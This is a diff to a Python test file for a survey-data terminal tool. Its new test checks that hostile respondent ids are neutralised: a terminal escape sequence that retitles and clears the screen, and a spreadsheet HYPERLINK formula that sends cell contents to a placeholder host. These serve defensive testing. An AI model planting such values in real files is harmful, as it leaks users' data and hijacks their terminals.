@@ -4,7 +4,9 @@ with whole-number ids gives, and the data owner's source ids show as the file ho
 
 from __future__ import annotations
 
+import csv
 import datetime
+import io
 import json
 import shutil
 
@@ -19,10 +21,13 @@ from heetui.tui.app import HeetuiApp
 from heetui.tui.verbatim_screen import VerbatimScreen
 from tui_helpers import running, settle
 
-KINDS = {
+KINDS = {  # how the ids are stored, and how the data owner reads integer id n then
     "text": (lambda c: pl.format("R_{}", c), lambda n: f"R_{n}"),
     "date": (lambda c: pl.lit(datetime.date(2019, 1, 1)) + pl.duration(days=c),
              lambda n: str(datetime.date(2019, 1, 1) + datetime.timedelta(days=n))),
+    # whole numbers stored as doubles (an SPSS file's) or decimals read as whole numbers
+    "double": (lambda c: c.cast(pl.Float64), lambda n: n),
+    "decimal": (lambda c: c.cast(pl.Decimal(12, 2)), lambda n: n),
 }
 
 
@@ -70,7 +75,7 @@ def test_comments_read_the_same_whatever_the_ids_are(tmp_path, kind):
     assert all(a == (None if b is None else shown(b)) for a, b in pairs)
 
 
-@pytest.mark.parametrize("kind", sorted(KINDS))
+@pytest.mark.parametrize("kind", ["date", "text"])
 def test_quotes_and_coding_with_ids_that_are_not_numbers(tmp_path, kind):
     folder = _with_ids(tmp_path, kind)
     outputs = []
@@ -105,3 +110,23 @@ async def test_the_comments_view_opens_on_text_ids(tmp_path):
         assert isinstance(app.screen, VerbatimScreen) and app.screen.shown is not None
         page = app.screen.shown[1]
         assert page.items and any(v.attributes for v in page.items)
+
+
+def test_text_ids_reach_the_terminal_and_spreadsheets_neutralised(tmp_path):
+    """An id is the file's text: shown to the data owner with its control characters as
+    visible escapes, and never as a formula in a CSV."""
+    folder = _with_ids(tmp_path, "text")
+    hostile = {"R_4": "\x1b]0;pwned\x07\x1b[2J", "R_5": '=HYPERLINK("http://x/?"&A1,"x")'}
+    for name in ("respondents", "verbatims"):
+        path = folder / f"{name}.parquet"
+        frame = pl.read_parquet(path)
+        frame.with_columns(pl.col("respondent_id").replace(hostile)).write_parquet(path)
+    args = ("--data", str(folder), "--no-edits", "verbatims", "--limit", "2",
+            "--show-source-ids")
+    text = run(*args)
+    assert text.returncode == 0, text.stderr
+    assert "\x1b" not in text.stdout and "\x07" not in text.stdout
+    assert "respondent \\x1b]0;pwned" in text.stdout  # the escapes, visible
+    rows = list(csv.DictReader(io.StringIO(run(*args, "--format", "csv").stdout)))
+    assert [r["respondent_id"] for r in rows] == [
+        "\x1b]0;pwned\x07\x1b[2J", "'" + hostile["R_5"]]
